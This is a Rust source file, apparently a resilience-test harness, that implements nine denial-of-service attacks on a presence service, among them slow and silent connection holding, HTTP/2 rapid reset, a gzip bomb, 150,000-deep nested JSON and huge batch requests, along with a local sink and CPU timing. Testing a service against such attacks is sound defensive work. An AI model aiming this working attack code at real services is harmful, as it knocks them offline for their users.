//! The attacks, and the sink that stands in for the service.

use std::{io::Write, net::SocketAddr, sync::Arc, time::Duration};

use crate::service::cpu_seconds;
use flate2::{Compression, write::GzEncoder};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
    runtime,
    task::JoinSet,
    time::{interval, sleep, timeout},
};

/// An attack: its name, the API it is for, and what it is.
pub(crate) const ATTACKS: [(&str, Api, &str); 9] = [
    ("slow", Api::Http, "1,000 connections that send a byte a second"),
    ("silent", Api::Http, "1,000 connections that say nothing"),
    ("half-open", Api::Grpc, "1,000 connections that send half a preface"),
    ("flood", Api::Http, "10,000 connections at once"),
    ("rapid-reset", Api::Grpc, "20,000 requests a second, each cancelled at once, on HTTP/2"),
    ("headers", Api::Http, "100 headers of 1 MiB a second"),
    ("gzip-bomb", Api::Http, "20 bodies a second of 250 KiB that unpack to 250 MiB"),
    ("nesting", Api::Http, "50 JSON bodies a second of 750 KiB, nested 150,000 deep"),
    ("batch", Api::Http, "20 batches a second of 1 MiB that name 20,000 requests"),
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Api {
    Grpc,
    Http,
}

/// Where the largest body is read.
const BULK: &str = "/v1.0/communications/getPresencesByUserId";

/// What is posted to where a body is.
const SET: &str = "/v1.0/users/victim/presence/setPresence";

/// Attacks for so long, and prints the processor time that took, in seconds.
pub(crate) fn run(kind: &str, address: SocketAddr, duration: Duration) {
    let runtime = runtime::Builder::new_current_thread().enable_all().build().unwrap();
    // It ends when the time is over, whatever it waits for.
    let _ = runtime.block_on(async { timeout(duration, attack(kind, address)).await });
    println!("{}", cpu_seconds("self"));
}

async fn attack(kind: &str, address: SocketAddr) {
    let post = |path: &str, headers: &str, body: &[u8]| {
        let length = body.len();
        let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-length: {length}\r\n{headers}\r\n");
        [head.as_bytes(), body].concat()
    };
    match kind {
        "slow" => hold(address, 1_000, b"GET /v1.0/users/a/presence HTTP/1.1\r\n", true).await,
        "silent" => hold(address, 1_000, b"", false).await,
        "half-open" => hold(address, 1_000, b"PRI * HTTP/2.0\r\n", false).await,
        "flood" => hold(address, 10_000, b"", false).await,
        "rapid-reset" => again(address, 100, rapid_reset(200)).await,
        "headers" => {
            let header = format!("GET / HTTP/1.1\r\nhost: x\r\nx: {}\r\n\r\n", "x".repeat(1 << 20));
            again(address, 100, header.into_bytes()).await;
        }
        "gzip-bomb" => {
            let bomb = post(SET, "content-encoding: gzip\r\n", &bomb());
            again(address, 20, bomb).await;
        }
        "nesting" => again(address, 50, post(BULK, "", "{\"a\":".repeat(150_000).as_bytes())).await,
        "batch" => {
            let items = vec![r#"{"id":"1","method":"GET","url":"/users/a/presence"}"#; 20_000].join(",");
            again(address, 20, post("/v1.0/$batch", "", format!("{{\"requests\":[{items}]}}").as_bytes()))
                .await;
        }
        _ => panic!("no attack is called {kind}"),
    }
}

/// 250 MiB of zeros, packed: about 250 KiB.
fn bomb() -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..250 {
        packed.write_all(&vec![0; 1 << 20]).unwrap();
    }
    packed.finish().unwrap()
}

/// So many requests that are cancelled as soon as they are sent.
fn rapid_reset(requests: u32) -> Vec<u8> {
    // SETTINGS with nothing in it.
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    // POST, http, and two literals that are not indexed.
    let path = b"/presence.v1.PresenceService/GetPresence";
    let mut header = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    header.extend_from_slice(path);
    header.extend_from_slice(b"\x0f\x10\x10application/grpc");
    for request in 0..requests {
        let stream = (request * 2 + 1).to_be_bytes();
        let length = u32::try_from(header.len()).unwrap().to_be_bytes();
        bytes.extend_from_slice(&length[1..]);
        bytes.extend_from_slice(&[0x01, 0x04]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&header);
        // RST_STREAM with CANCEL.
        bytes.extend_from_slice(&[0, 0, 4, 0x03, 0]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&8_u32.to_be_bytes());
    }
    bytes
}

/// Holds connections that begin so, and may go on with a byte a second; one that
/// is closed is opened again a second later.
async fn hold(address: SocketAddr, connections: usize, begin: &'static [u8], trickle: bool) {
    let mut tasks = JoinSet::new();
    for _ in 0..connections {
        tasks.spawn(async move {
            loop {
                if let Ok(mut stream) = TcpStream::connect(address).await {
                    let _ = stream.write_all(begin).await;
                    hold_one(&mut stream, trickle).await;
                }
                sleep(Duration::from_secs(1)).await;
            }
        });
    }
    tasks.join_all().await;
}

async fn hold_one(stream: &mut TcpStream, trickle: bool) {
    let mut bytes = [0; 1_024];
    loop {
        match timeout(Duration::from_secs(1), stream.read(&mut bytes)).await {
            Ok(Ok(0) | Err(_)) => return,
            Err(_) if trickle => {
                if stream.write_all(b"x").await.is_err() {
                    return;
                }
            }
            Ok(Ok(_)) | Err(_) => {}
        }
    }
}

/// Sends the bytes so many times a second, each on a connection of its own.
async fn again(address: SocketAddr, a_second: u32, bytes: Vec<u8>) {
    let bytes = Arc::new(bytes);
    let mut tasks = JoinSet::new();
    let mut ticks = interval(Duration::from_secs(1) / a_second);
    loop {
        ticks.tick().await;
        let bytes = Arc::clone(&bytes);
        tasks.spawn(async move {
            let Ok(mut stream) = TcpStream::connect(address).await else { return };
            let _ = stream.write_all(&bytes).await;
            // An answer ends it, or silence.
            let _ = timeout(Duration::from_secs(1), stream.read(&mut [0; 1_024])).await;
        });
        while tasks.try_join_next().is_some() {}
    }
}

/// Reads whatever comes and throws it away; prints where it listens.
pub(crate) fn sink() {
    let runtime = runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        println!("{}", listener.local_addr().unwrap());
        loop {
            let Ok((mut stream, _)) = listener.accept().await else { continue };
            tokio::spawn(async move {
                let mut bytes = vec![0; 65_536];
                while matches!(stream.read(&mut bytes).await, Ok(1..)) {}
            });
        }
    });
}
